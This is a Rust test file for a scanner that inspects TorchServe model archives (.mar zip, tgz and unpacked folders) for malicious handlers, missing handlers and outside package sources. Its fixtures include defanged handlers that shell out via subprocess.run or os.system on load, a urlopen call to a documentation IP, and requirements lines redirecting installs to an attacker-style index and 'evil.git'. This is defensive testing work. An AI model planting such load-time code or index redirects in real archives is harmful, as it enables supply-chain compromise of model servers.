//! TorchServe archives built the way torch-model-archiver builds them (files at the root,
//! `MAR-INF/MANIFEST.json` written last).

use std::io::{Cursor, Write};

use zip::write::SimpleFileOptions;

use super::{handler_module, manifest_prefix, names_tar_manifest, requirement_source};
use crate::testing::{PICKLE, codes, scan};

fn manifest(handler: &str, extra: &str) -> Vec<u8> {
    format!(
        r#"{{"createdOn": "30/11/2026 22:00:00", "runtime": "python", "model": {{"modelName": "m", "serializedFile": "model.pt", "handler": "{handler}", "modelVersion": "1.0"{extra}}}, "archiverVersion": "0.12.0"}}"#
    )
    .into_bytes()
}

fn mar(files: &[(&str, &[u8])]) -> Vec<u8> {
    let mut w = zip::ZipWriter::new(Cursor::new(Vec::new()));
    for (name, data) in files {
        w.start_file(*name, SimpleFileOptions::default()).unwrap();
        w.write_all(data).unwrap();
    }
    w.finish().unwrap().into_inner()
}

const BENIGN: &[u8] = b"import torch\nfrom ts.torch_handler.base_handler import BaseHandler\n\nclass Handler(BaseHandler):\n    def initialize(self, context):\n        super().initialize(context)\n\n    def postprocess(self, data):\n        return data.argmax(1).tolist()\n";

#[test]
fn an_ordinary_archive_is_clean_and_named() {
    let m = manifest("handler.py", "");
    let data = mar(&[
        ("model.pt", PICKLE),
        ("handler.py", BENIGN),
        ("MAR-INF/MANIFEST.json", &m),
    ]);
    let report = scan(&data);
    assert_eq!(report.format, "torchserve");
    assert!(codes(&report).is_empty(), "{:?}", report.findings);
    let m = manifest("image_classifier", "");
    let report = scan(&mar(&[("model.pt", PICKLE), ("MAR-INF/MANIFEST.json", &m)]));
    assert!(codes(&report).is_empty(), "{:?}", report.findings);
}

#[cfg(feature = "python")]
#[test]
fn a_handler_that_shells_out_in_initialize_is_malicious() {
    let handler = b"import subprocess\nfrom ts.torch_handler.base_handler import BaseHandler\n\nclass Handler(BaseHandler):\n    def initialize(self, context):\n        subprocess.run('echo quarantine-sample', shell=True)\n";
    let m = manifest("handler.py:handle", "");
    let report = scan(&mar(&[
        ("handler.py", handler),
        ("MAR-INF/MANIFEST.json", &m),
    ]));
    assert_eq!(codes(&report), ["MAR001"], "{:?}", report.findings);
    let evidence = report.findings[0].evidence.as_deref().unwrap();
    assert!(evidence.contains("subprocess.run"), "{evidence}");
    assert!(evidence.contains("Handler.initialize"), "{evidence}");
    // A connection opened in `handle` runs on every request.
    let handler = b"import urllib.request\n\ndef handle(data, context):\n    return urllib.request.urlopen('http://192.0.2.1/').read()\n";
    let report = scan(&mar(&[
        ("handler.py", handler),
        ("MAR-INF/MANIFEST.json", &m),
    ]));
    assert_eq!(codes(&report), ["MAR001"], "{:?}", report.findings);
}

#[cfg(feature = "python")]
#[test]
fn other_modules_of_the_archive_are_model_code() {
    let m = manifest("handler.py", r#", "modelFile": "model.py""#);
    let model = b"import os\nimport torch\nos.system('echo quarantine-sample')\nclass Net(torch.nn.Module):\n    pass\n";
    let report = scan(&mar(&[
        ("handler.py", BENIGN),
        ("model.py", model),
        ("MAR-INF/MANIFEST.json", &m),
    ]));
    assert_eq!(codes(&report), ["MAR001"], "{:?}", report.findings);
    assert_eq!(
        report.findings[0].location.member.as_deref(),
        Some("model.py")
    );
}

#[test]
fn a_handler_missing_from_the_archive_is_suspicious() {
    let m = manifest("my_handler.py", "");
    let report = scan(&mar(&[("model.pt", PICKLE), ("MAR-INF/MANIFEST.json", &m)]));
    assert_eq!(codes(&report), ["MAR003"], "{:?}", report.findings);
    let report = scan(&mar(&[("MAR-INF/MANIFEST.json", b"{\"model\": ")]));
    assert_eq!(codes(&report), ["MAR003"], "{:?}", report.findings);
}

#[test]
fn requirements_from_elsewhere_are_suspicious() {
    let m = manifest(
        "image_classifier",
        r#", "requirementsFile": "requirements.txt""#,
    );
    let reqs = b"torch>=2.0\nnumpy==1.26.4 ; python_version < '3.12'\n# git+https://example.com/x\n--extra-index-url http://192.0.2.1/simple\nevil @ git+https://192.0.2.1/evil.git\n";
    let report = scan(&mar(&[
        ("requirements.txt", reqs),
        ("MAR-INF/MANIFEST.json", &m),
    ]));
    assert_eq!(
        codes(&report),
        ["MAR004", "MAR004"],
        "{:?}",
        report.findings
    );
}

#[test]
fn requirement_lines() {
    for line in [
        "torch",
        "numpy==1.26.4",
        "pillow>=10 ; sys_platform == 'linux'",
        "# -i x",
        "",
    ] {
        assert_eq!(requirement_source(line), None, "{line}");
    }
    for line in [
        "-i http://192.0.2.1/simple",
        "--index-url=http://192.0.2.1/simple",
        "--extra-index-url http://192.0.2.1/simple",
        "-f ./wheels",
        "--find-links=/tmp",
        "-e .",
        "-r other.txt",
        "git+https://192.0.2.1/x.git",
        "x @ https://192.0.2.1/x.whl",
        "./local_pkg",
        "/abs/pkg.tar.gz",
        "pkg-1.0-py3-none-any.whl",
        "--trusted-host 192.0.2.1",
    ] {
        assert!(requirement_source(line).is_some(), "{line}");
    }
}

#[test]
fn handler_names_resolve_as_the_model_loader_does() {
    assert_eq!(handler_module("handler.py"), "handler");
    assert_eq!(handler_module("handler.py:entry"), "handler");
    assert_eq!(handler_module("image_classifier"), "image_classifier");
    assert_eq!(handler_module("a/b/custom.py"), "custom");
}

/// A tar as `torch-model-archiver --archive-format tgz` writes it (before the gzip).
fn tar_of(files: &[(&str, &[u8])]) -> Vec<u8> {
    let mut b = tar::Builder::new(Vec::new());
    for (name, data) in files {
        let mut h = tar::Header::new_gnu();
        h.set_size(data.len() as u64);
        h.set_mode(0o644);
        h.set_cksum();
        b.append_data(&mut h, name, *data).unwrap();
    }
    b.into_inner().unwrap()
}

fn gzip(data: &[u8]) -> Vec<u8> {
    let mut e = flate2::write::GzEncoder::new(Vec::new(), flate2::Compression::default());
    e.write_all(data).unwrap();
    e.finish().unwrap()
}

#[test]
fn manifest_places() {
    assert_eq!(manifest_prefix("MAR-INF/MANIFEST.json"), Some(""));
    assert_eq!(manifest_prefix("./m/MAR-INF/MANIFEST.json"), Some("m/"));
    assert_eq!(manifest_prefix("a/b/MAR-INF/MANIFEST.json"), None);
    assert_eq!(manifest_prefix("../MAR-INF/MANIFEST.json"), None);
    assert_eq!(manifest_prefix("xMAR-INF/MANIFEST.json"), None);
    assert!(names_tar_manifest("m.tar!m/MAR-INF/MANIFEST.json", true));
    assert!(!names_tar_manifest(
        "m.tar!x.mar!MAR-INF/MANIFEST.json",
        true
    ));
    assert!(names_tar_manifest("m/MAR-INF/MANIFEST.json", false));
    assert!(!names_tar_manifest("x.mar!MAR-INF/MANIFEST.json", false));
}

#[test]
fn a_tgz_archive_is_read_like_the_zip() {
    let m = manifest("handler.py", r#", "requirementsFile": "reqs.txt""#);
    let benign = gzip(&tar_of(&[
        ("m/model.pt", PICKLE),
        ("m/handler.py", BENIGN),
        ("m/reqs.txt", b"torchvision==0.20.1\n"),
        ("m/MAR-INF/MANIFEST.json", &m),
    ]));
    let report = scan(&benign);
    assert_eq!(report.format, "torchserve");
    assert!(codes(&report).is_empty(), "{:?}", report.findings);
    let report = scan(&gzip(&tar_of(&[
        ("m/model.pt", PICKLE),
        ("m/reqs.txt", b"-i http://192.0.2.1/simple\n"),
        ("m/MAR-INF/MANIFEST.json", &m),
    ])));
    // The handler is missing from the model folder; the requirements replace the index.
    assert_eq!(
        codes(&report),
        ["MAR003", "MAR004"],
        "{:?}",
        report.findings
    );
    let evidence = report.findings[1].evidence.as_deref().unwrap();
    assert_eq!(evidence, "reqs.txt:1: -i http://192.0.2.1/simple");
    // A module outside the model folder is not the archive's (TorchServe serves `m/`).
    let report = scan(&tar_of(&[
        ("m/handler.py", BENIGN),
        ("m/MAR-INF/MANIFEST.json", &m),
    ]));
    assert_eq!(report.format, "torchserve");
    assert!(codes(&report).is_empty(), "{:?}", report.findings);
}

#[cfg(feature = "python")]
#[test]
fn a_tgz_handler_that_shells_out_is_malicious() {
    let handler = b"import subprocess\n\ndef handle(data, context):\n    subprocess.run('echo quarantine-sample', shell=True)\n";
    let m = manifest("handler.py", "");
    for prefix in ["", "m/", "./m/"] {
        let h = format!("{prefix}handler.py");
        let mf = format!("{prefix}MAR-INF/MANIFEST.json");
        let report = scan(&gzip(&tar_of(&[(&h, handler), (&mf, &m)])));
        assert_eq!(report.format, "torchserve", "{prefix}");
        assert_eq!(
            codes(&report),
            ["MAR001"],
            "{prefix}: {:?}",
            report.findings
        );
        let evidence = report.findings[0].evidence.as_deref().unwrap();
        assert!(
            evidence.starts_with("handler.py:4: subprocess.run"),
            "{evidence}"
        );
    }
}

#[cfg(feature = "python")]
#[test]
fn an_unpacked_archive_is_judged_file_by_file() {
    let dir = tempfile::tempdir().unwrap();
    let root = dir.path().join("m");
    std::fs::create_dir_all(root.join("MAR-INF")).unwrap();
    std::fs::create_dir_all(root.join("lib")).unwrap();
    let handler = b"import subprocess\nfrom ts.torch_handler.base_handler import BaseHandler\n\nclass H(BaseHandler):\n    def initialize(self, context):\n        subprocess.run('echo quarantine-sample', shell=True)\n";
    let m = manifest("handler.py", r#", "requirementsFile": "deps.txt""#);
    let files: &[(&str, &[u8])] = &[
        ("handler.py", handler),
        (
            "lib/util.py",
            b"import os\nos.system('echo quarantine-sample')\n",
        ),
        ("deps.txt", b"x @ git+https://192.0.2.1/x.git\n"),
        ("MAR-INF/MANIFEST.json", &m),
    ];
    for (name, data) in files {
        std::fs::write(root.join(name), data).unwrap();
    }
    let scan_file =
        |name: &str| crate::scan::scan_file(&root.join(name), name, &crate::Config::default());
    let report = scan_file("handler.py");
    assert_eq!(codes(&report), ["MAR001"], "{:?}", report.findings);
    assert!(
        report.findings[0]
            .evidence
            .as_deref()
            .unwrap()
            .contains("H.initialize")
    );
    let report = scan_file("lib/util.py");
    assert_eq!(codes(&report), ["MAR001"], "{:?}", report.findings);
    assert!(
        report.findings[0]
            .evidence
            .as_deref()
            .unwrap()
            .starts_with("lib/util.py:2: os.system")
    );
    let report = scan_file("deps.txt");
    assert_eq!(codes(&report), ["MAR004"], "{:?}", report.findings);
    let report = scan_file("MAR-INF/MANIFEST.json");
    assert!(codes(&report).is_empty(), "{:?}", report.findings);
    // The manifest names a handler the folder does not hold.
    std::fs::remove_file(root.join("handler.py")).unwrap();
    let report = scan_file("MAR-INF/MANIFEST.json");
    assert_eq!(codes(&report), ["MAR003"], "{:?}", report.findings);
    // Without the manifest the folder is a plain folder of scripts.
    std::fs::remove_file(root.join("MAR-INF/MANIFEST.json")).unwrap();
    let report = scan_file("lib/util.py");
    assert!(!codes(&report).contains(&"MAR001"), "{:?}", report.findings);
}
